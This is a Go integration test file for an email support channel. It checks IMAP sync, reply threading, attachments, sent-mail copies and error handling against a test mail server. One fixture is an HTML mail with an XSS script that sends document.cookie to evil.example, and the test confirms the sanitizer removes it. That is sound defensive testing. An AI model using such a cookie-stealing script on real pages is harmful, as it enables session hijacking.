package email

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	gomail "github.com/emersion/go-message/mail"

	"github.com/switchboard-dev/switchboard/runtime/contract"
	"github.com/switchboard-dev/switchboard/runtime/internal/adapter"
	"github.com/switchboard-dev/switchboard/runtime/internal/channels"
	"github.com/switchboard-dev/switchboard/runtime/internal/inbox"
	"github.com/switchboard-dev/switchboard/runtime/internal/live"
	"github.com/switchboard-dev/switchboard/runtime/internal/store"
	"github.com/switchboard-dev/switchboard/runtime/internal/store/storetest"
	"github.com/switchboard-dev/switchboard/test/harness"
)

func TestMain(m *testing.M) { storetest.Main(m) }

var bg = context.Background()

// reports records what an engine reported.
type reports struct {
	mu   sync.Mutex
	list []status
}

func (r *reports) add(state, code, message string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.list = append(r.list, status{state, code, message})
}

func (r *reports) last() status {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.list) == 0 {
		return status{}
	}
	return r.list[len(r.list)-1]
}

// wait waits until the last report is state (and code, if not "").
func (r *reports) wait(t testing.TB, state, code string, timeout time.Duration) status {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		got := r.last()
		if got.state == state && (code == "" || got.code == code) {
			return got
		}
		if time.Now().After(deadline) {
			r.mu.Lock()
			defer r.mu.Unlock()
			t.Fatalf("no %s %s report after %s; reports: %+v", state, code, timeout, r.list)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func waitFor(t testing.TB, timeout time.Duration, what string, ok func() bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for !ok() {
		if time.Now().After(deadline) {
			t.Fatalf("no %s after %s", what, timeout)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// env is one workspace database with a mail server.
type env struct {
	mail *harness.MailServer
	st   *store.Store
	svc  *inbox.Service
	log  *slog.Logger
	// agent is a member who replies.
	agent int64
}

func newEnv(t *testing.T, mail *harness.MailServer) *env {
	st := storetest.NewDB(t)
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: logLevel()}))
	u, err := st.CreateUser(bg, st.Pool, &store.User{Email: "agent@example.test", Name: "Agent", Role: "agent", PasswordHash: "x"})
	if err != nil {
		t.Fatal(err)
	}
	return &env{mail: mail, st: st, svc: inbox.New(st, live.New(st.Pool, log)), log: log, agent: u.ID}
}

// deps are an engine's dependencies for the Integration name, reporting
// into r.
func (e *env) deps(name string, cfg map[string]string, password string, r *reports) adapter.Deps {
	return adapter.Deps{
		Name: name, Key: contract.ChannelKey("imap", name),
		Info:        contract.ChannelInfo{Type: "imap", UID: "uid-" + name, Config: cfg, CredentialsVersion: 1},
		Credentials: map[string]string{"password": password},
		Inbox:       e.svc, Store: e.st, Log: e.log, Report: r.add,
	}
}

// config is an "imap" Integration's config for local's mailbox: IMAPS and
// SMTP with STARTTLS, trusting the test CA.
func (e *env) config(local string) map[string]string {
	return map[string]string{
		"imapHost": "127.0.0.1", "imapPort": fmt.Sprint(e.mail.IMAPSPort),
		"smtpHost": "127.0.0.1", "smtpPort": fmt.Sprint(e.mail.SMTPPort), "smtpSecurity": "starttls",
		"username": e.mail.Address(local), "fromName": "Support Desk", "caCertificate": string(e.mail.CACertPEM),
	}
}

// engine builds an engine for local's mailbox with the test's tweaks and
// runs it until the test ends.
func (e *env) engine(t *testing.T, name, local, password string, tweak func(*Options)) (*Engine, *reports) {
	t.Helper()
	r := &reports{}
	o, err := OptionsFromConfig(e.config(local), password)
	if err != nil {
		t.Fatal(err)
	}
	// A busy machine can make dovecot refuse a login it cannot check in
	// time: tests retry after a refusal sooner than production does.
	o.RetryMin, o.RetryMax, o.AuthRetry = 200*time.Millisecond, 2*time.Second, 5*time.Second
	if tweak != nil {
		tweak(&o)
	}
	eng, err := New(e.deps(name, nil, password, r), o)
	if err != nil {
		t.Fatal(err)
	}
	e.run(t, eng)
	return eng, r
}

// run runs a until the test ends, and registers it as a channel.
func (e *env) run(t *testing.T, a adapter.Adapter) {
	ctx, cancel := context.WithCancel(bg)
	done := make(chan struct{})
	go func() {
		a.Run(ctx)
		close(done)
	}()
	if s, ok := a.(adapter.Sender); ok {
		prev := e.svc.Resolve
		e.svc.Resolve = func(name string) (inbox.Channel, bool) {
			if name == s.Name() {
				return s, true
			}
			if prev != nil {
				return prev(name)
			}
			return nil, false
		}
	}
	t.Cleanup(func() {
		cancel()
		a.Close()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("Run did not return within 10 s of its context ending")
		}
	})
}

// stored is a message as the tests look at it.
type stored struct {
	id, conv           int64
	direction, body    string
	ext                string
	subject, contact   string
	attachments        int
	attachmentSHA, hdr string
}

func (e *env) messages(t testing.TB, channel string) []stored {
	t.Helper()
	rows, err := e.st.Pool.Query(bg, `SELECT m.id, m.conversation_id, m.direction, m.body, coalesce(m.external_id, ''), c.subject,
			coalesce((SELECT identifier FROM contact_identities ci WHERE ci.contact_id = c.contact_id AND ci.channel = c.channel LIMIT 1), ''),
			(SELECT count(*) FROM attachments a WHERE a.message_id = m.id),
			coalesce((SELECT string_agg(a.sha256, ',' ORDER BY a.id) FROM attachments a WHERE a.message_id = m.id), ''),
			coalesce((SELECT header_id FROM email_messages em WHERE em.message_id = m.id), '')
		FROM messages m JOIN conversations c ON c.id = m.conversation_id WHERE m.channel = $1 ORDER BY m.id`, channel)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []stored
	for rows.Next() {
		var s stored
		if err := rows.Scan(&s.id, &s.conv, &s.direction, &s.body, &s.ext, &s.subject, &s.contact, &s.attachments, &s.attachmentSHA, &s.hdr); err != nil {
			t.Fatal(err)
		}
		out = append(out, s)
	}
	return out
}

func (e *env) waitMessages(t testing.TB, channel string, n int) []stored {
	t.Helper()
	var got []stored
	waitFor(t, 30*time.Second, fmt.Sprintf("%d messages on %s", n, channel), func() bool {
		got = e.messages(t, channel)
		return len(got) >= n
	})
	if len(got) != n {
		t.Fatalf("%d messages on %s, want %d: %+v", len(got), channel, n, got)
	}
	return got
}

// reply sends an agent's reply through the outbox, as the runtime does.
func (e *env) reply(t testing.TB, conv int64, body string, files ...inbox.File) *store.Message {
	t.Helper()
	msg, err := e.svc.ReplyWithFiles(bg, e.agent, conv, body, files)
	if err != nil {
		t.Fatal(err)
	}
	(&channels.Worker{Inbox: e.svc, Log: e.log}).RunOnce(bg)
	var status, ext string
	if err := e.st.Pool.QueryRow(bg, `SELECT coalesce(delivery_status, ''), coalesce(external_id, '') FROM messages WHERE id = $1`, msg.ID).
		Scan(&status, &ext); err != nil {
		t.Fatal(err)
	}
	if status != "sent" || ext == "" {
		var detail string
		_ = e.st.Pool.QueryRow(bg, `SELECT coalesce(max(last_error), '') FROM outbox WHERE message_id = $1`, msg.ID).Scan(&detail)
		t.Fatalf("reply %d: status %q, external id %q (%s)", msg.ID, status, ext, detail)
	}
	msg.ExternalID = &ext
	return msg
}

// mailFrom builds a customer's mail.
func mailFrom(from, to, subject, id string, headers map[string]string, body string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\n", from, to, subject, time.Now().Format(time.RFC1123Z))
	if id != "" {
		fmt.Fprintf(&b, "Message-ID: <%s>\r\n", id)
	}
	keys := make([]string, 0, len(headers))
	for k := range headers {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: %s\r\n", k, headers[k])
	}
	if _, ok := headers["Content-Type"]; !ok {
		b.WriteString("Content-Type: text/plain; charset=utf-8\r\n")
	}
	b.WriteString("MIME-Version: 1.0\r\n\r\n")
	b.WriteString(strings.ReplaceAll(body, "\n", "\r\n"))
	return []byte(b.String())
}

// header reads a delivered mail's header.
func header(t testing.TB, raw []byte) gomail.Header {
	t.Helper()
	r, err := gomail.CreateReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	return r.Header
}

// TestEmail runs the email channel against a real dovecot and postfix: one
// server for all subtests, a database and mailboxes of their own for each.
func TestEmail(t *testing.T) {
	mail, err := harness.StartMailServer(harness.MailOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(mail.Close)
	defer func() {
		if t.Failed() {
			t.Log(mail.Logs())
		}
	}()

	t.Run("sync, reply and threading", func(t *testing.T) { testSyncReplyThread(t, mail) })
	t.Run("a dovecot restart", func(t *testing.T) { testRestart(t, mail) })
	t.Run("a recreated mailbox", func(t *testing.T) { testUIDValidity(t, mail) })
	t.Run("polling and big mail", func(t *testing.T) { testPolling(t, mail) })
	t.Run("wrong passwords", func(t *testing.T) { testWrongPassword(t, mail) })
	t.Run("sent copies", func(t *testing.T) { testSentCopies(t, mail) })
	t.Run("replies with files", func(t *testing.T) { testReplyFiles(t, mail) })
}

// testReplyFiles: files an agent attaches reach the customer as MIME
// attachments, byte for byte and under their names, after the text; the
// copy in Sent has them too.
func testReplyFiles(t *testing.T, mail *harness.MailServer) {
	hector, desk := mail.Address("hector"), mail.Address("filedesk")
	for _, u := range []string{"hector", "filedesk"} {
		if err := mail.AddUser(u, "pw-"+u); err != nil {
			t.Fatal(err)
		}
	}
	e := newEnv(t, mail)
	o, err := OptionsFromConfig(e.config("filedesk"), "pw-filedesk")
	if err != nil {
		t.Fatal(err)
	}
	eng, err := New(e.deps("files", nil, "pw-filedesk", &reports{}), o)
	if err != nil {
		t.Fatal(err)
	}
	e.run(t, eng)
	if err := mail.Send(hector, []string{desk}, mailFrom(hector, desk, "Invoice copy", "h1@hector.test", nil, "Could you send the invoice again?")); err != nil {
		t.Fatal(err)
	}
	var conv int64
	waitFor(t, 30*time.Second, "the mail in the inbox", func() bool {
		for _, m := range e.messages(t, eng.Name()) {
			conv = m.conv
		}
		return conv != 0
	})
	pdf := make([]byte, 300<<10) // binary, every byte value, larger than one SMTP chunk
	for i := range pdf {
		pdf[i] = byte(i * 7)
	}
	files := []inbox.File{
		{Filename: "Facture n°12 — mars.pdf", ContentType: "application/pdf", Data: pdf},
		{Filename: "notes.txt", ContentType: "text/plain", Data: []byte("line one\nline two\n")},
	}
	reply := e.reply(t, conv, "Here it is, with my notes.", files...)
	if len(reply.Attachments) != 2 {
		t.Fatalf("the reply has %d attachments", len(reply.Attachments))
	}
	got, err := mail.WaitMessages("hector", "INBOX", 1, 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	check := func(where string, raw []byte) {
		t.Helper()
		r, err := gomail.CreateReader(bytes.NewReader(raw))
		if err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		if id, _ := r.Header.MessageID(); id != *reply.ExternalID {
			t.Errorf("%s: Message-ID %s, want %s", where, id, *reply.ExternalID)
		}
		var text string
		var names []string
		var datas [][]byte
		for {
			p, err := r.NextPart()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", where, err)
			}
			b, _ := io.ReadAll(p.Body)
			switch h := p.Header.(type) {
			case *gomail.InlineHeader:
				if len(names) > 0 {
					t.Errorf("%s: the text comes after a file", where)
				}
				text = string(b)
			case *gomail.AttachmentHeader:
				name, _ := h.Filename()
				names, datas = append(names, name), append(datas, b)
			}
		}
		if strings.TrimSpace(text) != "Here it is, with my notes." {
			t.Errorf("%s: text %q", where, text)
		}
		if len(names) != 2 || names[0] != files[0].Filename || names[1] != files[1].Filename {
			t.Fatalf("%s: attachments %q", where, names)
		}
		for i := range files {
			if !bytes.Equal(datas[i], files[i].Data) {
				t.Errorf("%s: %s arrived changed (%d bytes, sent %d)", where, names[i], len(datas[i]), len(files[i].Data))
			}
		}
	}
	check("the customer's copy", got[len(got)-1])
	sent := sentCopies(t, mail, "filedesk", "Sent", true)
	if len(sent) == 0 {
		t.Fatal("no copy in Sent")
	}
	check("the copy in Sent", sent[len(sent)-1])
}

// sentCopies returns every message of local's mailbox (want them all read
// or not).
func sentCopies(t *testing.T, mail *harness.MailServer, local, mailbox string, wantSeen bool) [][]byte {
	t.Helper()
	msgs, err := mail.Messages(local, mailbox)
	if err != nil {
		t.Fatalf("reading %s's %s: %v", local, mailbox, err)
	}
	c, err := mail.DialIMAP(local)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Select(mailbox, &imap.SelectOptions{ReadOnly: true}).Wait(); err != nil {
		t.Fatal(err)
	}
	unseen, err := c.UIDSearch(&imap.SearchCriteria{NotFlag: []imap.Flag{imap.FlagSeen}}, nil).Wait()
	if err != nil {
		t.Fatal(err)
	}
	if n := len(unseen.AllUIDs()); wantSeen && n != 0 {
		t.Errorf("%d of the %d copies in %s are unread", n, len(msgs), mailbox)
	}
	return msgs
}

// testSentCopies: a reply is copied into the folder sentMailbox names; with
// saveSentCopy "false" nowhere; into a folder that does not exist it is
// still sent, and only the copy is lost (logged).
func testSentCopies(t *testing.T, mail *harness.MailServer) {
	dave, desk := mail.Address("dave"), mail.Address("desk2")
	for _, u := range []string{"dave", "desk2"} {
		if err := mail.AddUser(u, "pw-"+u); err != nil {
			t.Fatal(err)
		}
	}
	// The folder sentMailbox names below.
	c, err := mail.DialIMAP("desk2")
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Create("Outbox Archive", nil).Wait(); err != nil {
		t.Fatal(err)
	}
	c.Close()
	for i, c := range []struct {
		name   string
		config map[string]string
		folder string // where the copy lands; "" none
	}{
		{"named", map[string]string{"sentMailbox": "Outbox Archive"}, "Outbox Archive"},
		{"off", map[string]string{"saveSentCopy": "false"}, ""},
		{"missing", map[string]string{"sentMailbox": "No Such Folder"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, mail)
			cfg := e.config("desk2")
			for k, v := range c.config {
				cfg[k] = v
			}
			o, err := OptionsFromConfig(cfg, "pw-desk2")
			if err != nil {
				t.Fatal(err)
			}
			o.RetryMin, o.RetryMax, o.AuthRetry = 200*time.Millisecond, 2*time.Second, 5*time.Second
			r := &reports{}
			eng, err := New(e.deps(c.name, nil, "pw-desk2", r), o)
			if err != nil {
				t.Fatal(err)
			}
			e.run(t, eng)
			subject := fmt.Sprintf("Copy test %d", i)
			if err := mail.Send(dave, []string{desk}, mailFrom(dave, desk, subject, fmt.Sprintf("d%d@dave.test", i), nil, "Hello?")); err != nil {
				t.Fatal(err)
			}
			var conv int64
			waitFor(t, 30*time.Second, "the mail in the inbox", func() bool {
				for _, m := range e.messages(t, eng.Name()) {
					if m.subject == subject {
						conv = m.conv
						return true
					}
				}
				return false
			})
			sentBefore, _ := mail.Messages("desk2", "Sent")
			archivedBefore, _ := mail.Messages("desk2", "Outbox Archive")
			reply := e.reply(t, conv, "Hello, Dave.") // fails the test unless sent
			if _, err := mail.WaitMessages("dave", "INBOX", i+1, 30*time.Second); err != nil {
				t.Fatal(err)
			}
			sent := sentCopies(t, mail, "desk2", "Sent", true)
			archived := sentCopies(t, mail, "desk2", "Outbox Archive", true)
			if len(sent) != len(sentBefore) {
				t.Errorf("the \\Sent folder got a copy though sentMailbox or saveSentCopy said otherwise")
			}
			switch c.folder {
			case "":
				if len(archived) != len(archivedBefore) {
					t.Errorf("a copy was kept: %d messages in Outbox Archive, were %d", len(archived), len(archivedBefore))
				}
			default:
				if len(archived) != len(archivedBefore)+1 {
					t.Fatalf("%d messages in %s, want %d", len(archived), c.folder, len(archivedBefore)+1)
				}
				h := header(t, archived[len(archived)-1])
				if id, _ := h.MessageID(); id != *reply.ExternalID {
					t.Errorf("the copy is %s, want the reply %s", id, *reply.ExternalID)
				}
			}
		})
	}
	if _, err := OptionsFromConfig(map[string]string{"imapHost": "h", "smtpHost": "h", "username": "u@h.test", "saveSentCopy": "yes"}, "pw"); err == nil ||
		!strings.Contains(err.Error(), "saveSentCopy") {
		t.Errorf("saveSentCopy \"yes\": %v", err)
	}
}

func testSyncReplyThread(t *testing.T, mail *harness.MailServer) {
	e := newEnv(t, mail)
	alice, bob, support := mail.Address("alice"), mail.Address("bob"), mail.Address("support")
	pdf := bytes.Repeat([]byte("%PDF-1.4 0123456789\n"), 200)
	mails := [][]byte{
		mailFrom("Alice <"+alice+">", support, "Order 12", "a1@alice.test", nil, "Where is my order 12?"),
		mailFrom("Alice <"+alice+">", support, "Invoice question", "a2@alice.test", nil, "The invoice is wrong."),
		mailFrom("Alice <"+alice+">", support, "Newsletter", "a3@alice.test", map[string]string{"Content-Type": "text/html; charset=utf-8"},
			`<html><head><script>document.location="https://evil.example/?c="+document.cookie</script><style>body{color:red}</style></head>`+
				`<body><p onclick="steal()">Hello <b>team</b>,</p><p><img src="https://tracker.example/p.gif">Thanks!</p></body></html>`),
		mailFrom("Bob <"+bob+">", support, "Broken item", "b1@bob.test", map[string]string{"Content-Type": `multipart/mixed; boundary="XX"`},
			"--XX\nContent-Type: text/plain\n\nPhoto and receipt attached.\n--XX\nContent-Type: application/pdf\n"+
				"Content-Disposition: attachment; filename=\"receipt.pdf\"\nContent-Transfer-Encoding: base64\n\n"+
				b64lines(pdf)+"--XX--\n"),
	}
	for _, m := range mails {
		if err := mail.Send(alice, []string{support}, m); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := mail.WaitMessages("support", "INBOX", len(mails), 30*time.Second); err != nil {
		t.Fatal(err)
	}

	// Built by the registered factory from an Integration's config.
	factory, ok := adapter.Lookup("imap")
	if !ok {
		t.Fatal(`the "imap" type is not registered`)
	}
	r := &reports{}
	a, err := factory(e.deps("desk", e.config("support"), mail.Password("support"), r))
	if err != nil {
		t.Fatal(err)
	}
	e.run(t, a)
	key := a.(adapter.Sender).Name()
	if key != "imap/desk" {
		t.Fatalf("channel key %q", key)
	}

	// Initial sync: four mails, four conversations.
	r.wait(t, contract.HealthConnected, "", 30*time.Second)
	got := e.waitMessages(t, key, 4)
	convs := map[int64]bool{}
	for _, m := range got {
		convs[m.conv] = true
		if m.direction != "incoming" {
			t.Errorf("message %d is %s", m.id, m.direction)
		}
	}
	if len(convs) != 4 {
		t.Fatalf("4 mails with 4 subjects made %d conversations", len(convs))
	}
	// By Message-ID, not position: postfix delivers concurrently, so the
	// mailbox's order (UIDs, and so the messages' ids) need not be the
	// order they were sent in.
	byID := map[string]stored{}
	for _, m := range got {
		byID[m.ext] = m
	}
	order, invoice, html, broken := byID["a1@alice.test"], byID["a2@alice.test"], byID["a3@alice.test"], byID["b1@bob.test"]
	if order.subject != "Order 12" || order.contact != alice || order.ext != "a1@alice.test" || order.hdr != "a1@alice.test" {
		t.Errorf("first mail stored as %+v", order)
	}
	if !strings.Contains(html.body, "Hello team,") || !strings.Contains(html.body, "Thanks!") {
		t.Errorf("the HTML mail's text is %q", html.body)
	}
	for _, bad := range []string{"script", "document", "evil", "color", "steal", "tracker", "<"} {
		if strings.Contains(html.body, bad) {
			t.Errorf("the HTML mail keeps %q: %q", bad, html.body)
		}
	}
	pdfMail := ParseMessage(mails[3], DefaultLimits)
	if broken.attachments != 1 || broken.attachmentSHA != pdfMail.Attachments[0].SHA256 || broken.contact != bob {
		t.Errorf("bob's mail: %d attachments %q, contact %q", broken.attachments, broken.attachmentSHA, broken.contact)
	}
	att, err := e.svc.Attachment(bg, firstAttachment(t, e, broken.id))
	if err != nil || !bytes.Equal(att.Data, pdf) || att.Filename != "receipt.pdf" {
		t.Errorf("attachment: %v, %q, %d bytes", err, att.Filename, len(att.Data))
	}

	// An agent's reply reaches Alice's mailbox, threaded.
	r1 := e.reply(t, order.conv, "It ships tomorrow.\nRegards")
	inboxMails, err := mail.WaitMessages("alice", "INBOX", 1, 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	h := header(t, inboxMails[0])
	id1, _ := h.MessageID()
	irt, _ := h.MsgIDList("In-Reply-To")
	refs, _ := h.MsgIDList("References")
	subject, _ := h.Subject()
	from, _ := h.AddressList("From")
	if id1 != *r1.ExternalID || !slices.Equal(irt, []string{"a1@alice.test"}) || !slices.Equal(refs, []string{"a1@alice.test"}) ||
		subject != "Re: Order 12" || len(from) != 1 || from[0].Address != support || from[0].Name != "Support Desk" {
		t.Fatalf("the reply's header: id %q (stored %q), in-reply-to %q, references %q, subject %q, from %v",
			id1, *r1.ExternalID, irt, refs, subject, from)
	}
	if !bytes.Contains(inboxMails[0], []byte("It ships tomorrow.")) {
		t.Errorf("the reply's body:\n%s", inboxMails[0])
	}

	// Alice answers it, under another subject: the references thread it.
	if err := mail.Send(alice, []string{support}, mailFrom(alice, support, "Thanks, one more thing", "a4@alice.test",
		map[string]string{"In-Reply-To": "<" + id1 + ">", "References": "<a1@alice.test> <" + id1 + ">"}, "Can you gift-wrap it?")); err != nil {
		t.Fatal(err)
	}
	// A reply to her second mail without any references: the subject does.
	if err := mail.Send(alice, []string{support}, mailFrom(alice, support, "RE: Invoice question", "a5@alice.test", nil, "Any news?")); err != nil {
		t.Fatal(err)
	}
	// A new subject is a new conversation, though three of hers are open.
	if err := mail.Send(alice, []string{support}, mailFrom(alice, support, "Order 13", "a6@alice.test", nil, "Another order.")); err != nil {
		t.Fatal(err)
	}
	got = e.waitMessages(t, key, 8) // 4 inbound, 1 reply, 3 inbound
	byExt := map[string]stored{}
	for _, m := range got {
		byExt[m.ext] = m
	}
	if byExt["a4@alice.test"].conv != order.conv {
		t.Errorf("Alice's answer to the reply went to conversation %d, want %d", byExt["a4@alice.test"].conv, order.conv)
	}
	if byExt["a5@alice.test"].conv != invoice.conv {
		t.Errorf("Alice's RE: went to conversation %d, want %d (subject fallback)", byExt["a5@alice.test"].conv, invoice.conv)
	}
	if c := byExt["a6@alice.test"].conv; convs[c] || c == 0 {
		t.Errorf("a new subject joined conversation %d", c)
	}

	// The second reply answers her last mail, with the whole chain.
	r2 := e.reply(t, order.conv, "Gift-wrapped it is.")
	inboxMails, err = mail.WaitMessages("alice", "INBOX", 2, 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	h = header(t, inboxMails[1])
	id2, _ := h.MessageID()
	irt, _ = h.MsgIDList("In-Reply-To")
	refs, _ = h.MsgIDList("References")
	if id2 != *r2.ExternalID || id2 == id1 || !slices.Equal(irt, []string{"a4@alice.test"}) ||
		!slices.Equal(refs, []string{"a1@alice.test", id1, "a4@alice.test"}) {
		t.Fatalf("the second reply: id %q, in-reply-to %q, references %q", id2, irt, refs)
	}

	// Both replies are in the support mailbox's sent-mail folder (the one
	// dovecot marks \Sent), read, as a mail client would have filed them.
	sentIDs := map[string]bool{}
	for _, raw := range sentCopies(t, mail, "support", "Sent", true) {
		h := header(t, raw)
		id, _ := h.MessageID()
		sentIDs[id] = true
	}
	if len(sentIDs) != 2 || !sentIDs[id1] || !sentIDs[id2] {
		t.Fatalf("the Sent folder holds %v, want %s and %s", sentIDs, id1, id2)
	}

	// A retried delivery sends the same Message-ID.
	again, err := a.(adapter.Sender).Deliver(bg, inbox.Outbound{MessageID: r2.ID, ConversationID: order.conv, Channel: key,
		Identifier: alice, Body: "Gift-wrapped it is."})
	if err != nil || again != id2 {
		t.Fatalf("a retry sent %q (%v), want %q", again, err, id2)
	}

	// Reading the whole mailbox again (a lost position) stores nothing twice.
	before := len(e.messages(t, key))
	if _, err := e.st.Pool.Exec(bg, `DELETE FROM email_sync WHERE channel = $1`, key); err != nil {
		t.Fatal(err)
	}
	r2b := &reports{}
	b, err := factory(e.deps("desk", e.config("support"), mail.Password("support"), r2b))
	if err != nil {
		t.Fatal(err)
	}
	e.run(t, b)
	waitFor(t, 30*time.Second, "the mailbox read again", func() bool {
		var last int64
		_ = e.st.Pool.QueryRow(bg, `SELECT last_uid FROM email_sync WHERE channel = $1`, key).Scan(&last)
		return last == 7
	})
	if n := len(e.messages(t, key)); n != before {
		t.Fatalf("reading the mailbox again made %d messages of %d", n, before)
	}
}

func b64lines(data []byte) string {
	s := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\n")
		s = s[76:]
	}
	b.WriteString(s + "\n")
	return b.String()
}

func firstAttachment(t testing.TB, e *env, messageID int64) int64 {
	t.Helper()
	var id int64
	if err := e.st.Pool.QueryRow(bg, `SELECT id FROM attachments WHERE message_id = $1 ORDER BY id LIMIT 1`, messageID).Scan(&id); err != nil {
		t.Fatal(err)
	}
	return id
}

func testRestart(t *testing.T, mail *harness.MailServer) {
	e := newEnv(t, mail)
	if err := mail.AddUser("dora", "dora-password"); err != nil {
		t.Fatal(err)
	}
	eng, r := e.engine(t, "dora", "dora", "dora-password", nil)
	r.wait(t, contract.HealthConnected, "", 30*time.Second)
	if err := mail.Append("dora", "INBOX", mailFrom(mail.Address("bob"), mail.Address("dora"), "Before", "r1@bob.test", nil, "one")); err != nil {
		t.Fatal(err)
	}
	e.waitMessages(t, eng.Name(), 1)

	mail.StopIMAP()
	r.wait(t, contract.HealthUnreachable, "", 30*time.Second)
	// Mail arrives while the IMAP server is down.
	if err := mail.FillMaildir("dora", "INBOX", 1, func(int) []byte {
		return mailFrom(mail.Address("bob"), mail.Address("dora"), "During", "r2@bob.test", nil, "two")
	}); err != nil {
		t.Fatal(err)
	}
	if err := mail.StartIMAP(); err != nil {
		t.Fatal(err)
	}
	r.wait(t, contract.HealthConnected, "", 30*time.Second)
	got := e.waitMessages(t, eng.Name(), 2)
	if got[1].ext != "r2@bob.test" {
		t.Errorf("after the restart: %+v", got[1])
	}
	// And it goes on: IDLE again on the new connection.
	if err := mail.Append("dora", "INBOX", mailFrom(mail.Address("bob"), mail.Address("dora"), "After", "r3@bob.test", nil, "three")); err != nil {
		t.Fatal(err)
	}
	e.waitMessages(t, eng.Name(), 3)
}

func testUIDValidity(t *testing.T, mail *harness.MailServer) {
	e := newEnv(t, mail)
	if err := mail.AddUser("erin", "erin-password"); err != nil {
		t.Fatal(err)
	}
	from, to := mail.Address("carol"), mail.Address("erin")
	var first [][]byte
	for i := range 3 {
		first = append(first, mailFrom(from, to, fmt.Sprintf("Question %d", i), fmt.Sprintf("u%d@carol.test", i), nil, "?"))
	}
	// One without a Message-ID: deduplicated by its digest.
	first = append(first, mailFrom(from, to, "No id", "", nil, "no id"))
	if err := mail.Append("erin", "Support", first...); err != nil {
		t.Fatal(err)
	}
	// Dovecot does not tell a session that its mailbox was recreated: the
	// engine finds out with its next session, every IdleRestart (29 min in
	// production).
	eng, r := e.engine(t, "erin", "erin", "erin-password", func(o *Options) { o.Mailbox, o.IdleRestart = "Support", 2*time.Second })
	r.wait(t, contract.HealthConnected, "", 30*time.Second)
	e.waitMessages(t, eng.Name(), 4)
	var pos position
	waitFor(t, 30*time.Second, "the position at UID 4", func() bool {
		pos, _ = eng.position(bg, "Support")
		return pos.lastUID == 4
	})

	uv, err := mail.RecreateMailbox("erin", "Support")
	if err != nil {
		t.Fatal(err)
	}
	if err := mail.Append("erin", "Support", mailFrom(from, to, "Question 3", "u3@carol.test", nil, "?")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 60*time.Second, "a sync of the recreated mailbox", func() bool {
		pos, _ = eng.position(bg, "Support")
		return pos.uidValidity == uv && pos.lastUID == 5
	})
	got := e.waitMessages(t, eng.Name(), 5)
	seen := map[string]bool{}
	for _, m := range got {
		if seen[m.ext] {
			t.Errorf("stored twice: %q", m.ext)
		}
		seen[m.ext] = true
	}
	if !seen["u3@carol.test"] {
		t.Error("the mail after the reset is missing")
	}
}

func testPolling(t *testing.T, mail *harness.MailServer) {
	e := newEnv(t, mail)
	if err := mail.AddUser("frank", "frank-password"); err != nil {
		t.Fatal(err)
	}
	eng, r := e.engine(t, "frank", "frank", "frank-password", func(o *Options) {
		o.NoIdle, o.PollInterval, o.MaxMessage = true, 300*time.Millisecond, 8<<10
		// STARTTLS on the plaintext port.
		o.IMAP = Server{Addr: mail.IMAPAddr(), Security: StartTLS}
	})
	r.wait(t, contract.HealthConnected, "", 30*time.Second)
	big := mailFrom(mail.Address("bob"), mail.Address("frank"), "Big one", "p2@bob.test", nil, strings.Repeat("0123456789abcdef\n", 1024))
	if err := mail.Append("frank", "INBOX", mailFrom(mail.Address("bob"), mail.Address("frank"), "Polled", "p1@bob.test", nil, "hi"), big); err != nil {
		t.Fatal(err)
	}
	got := e.waitMessages(t, eng.Name(), 2)
	if got[1].subject != "Big one" || !strings.Contains(got[1].body, "only its header was read") || strings.Contains(got[1].body, "0123456789") {
		t.Errorf("the big mail: %q %q", got[1].subject, got[1].body)
	}
}

func testWrongPassword(t *testing.T, mail *harness.MailServer) {
	e := newEnv(t, mail)
	eng, r := e.engine(t, "wrong", "support", "not-the-password", nil)
	st := r.wait(t, contract.HealthAuthFailed, "AUTHENTICATIONFAILED", 30*time.Second)
	if strings.Contains(st.message, "not-the-password") {
		t.Errorf("the report shows the password: %q", st.message)
	}
	if c := eng.Credentials(); !slices.Equal(c, []string{"not-the-password"}) {
		t.Errorf("Credentials() = %q", c)
	}

	// SMTP refuses it too: the delivery fails for good.
	res, err := e.svc.Ingest(bg, inbox.Inbound{Channel: eng.Name(), Identifier: mail.Address("alice"), ExternalID: "w1@alice.test",
		Subject: "Hello", Body: "hello"})
	if err != nil {
		t.Fatal(err)
	}
	msg, err := e.svc.Reply(bg, e.agent, res.Conversation.ID, "hi")
	if err != nil {
		t.Fatal(err)
	}
	_, err = eng.Deliver(bg, inbox.Outbound{MessageID: msg.ID, ConversationID: res.Conversation.ID, Channel: eng.Name(),
		Identifier: mail.Address("alice"), Body: "hi"})
	if !adapter.IsPermanent(err) {
		t.Fatalf("Deliver with a wrong password = %v, want a permanent error", err)
	}
	var ae *AuthError
	if !errors.As(err, &ae) || ae.Code != "535" {
		t.Errorf("Deliver's error = %v, want AuthError 535", err)
	}
	if last := r.last(); last.state != contract.HealthAuthFailed {
